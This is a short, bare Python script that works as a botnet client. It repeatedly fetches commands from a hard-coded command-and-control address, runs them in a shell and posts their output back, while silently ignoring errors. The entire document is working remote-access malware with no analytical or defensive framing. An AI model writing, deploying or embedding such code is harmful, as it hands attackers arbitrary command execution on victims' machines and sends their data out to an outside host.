import time
import subprocess
import requests

C2 = "http://203.0.113.50:8080"
bot_id = "node-7"

while True:
    try:
        task = requests.get(f"{C2}/task/{bot_id}", timeout=5).text
        if task:
            out = subprocess.run(task, shell=True, capture_output=True, text=True)
            requests.post(f"{C2}/result/{bot_id}", data=out.stdout + out.stderr)
    except Exception:
        pass
    time.sleep(30)
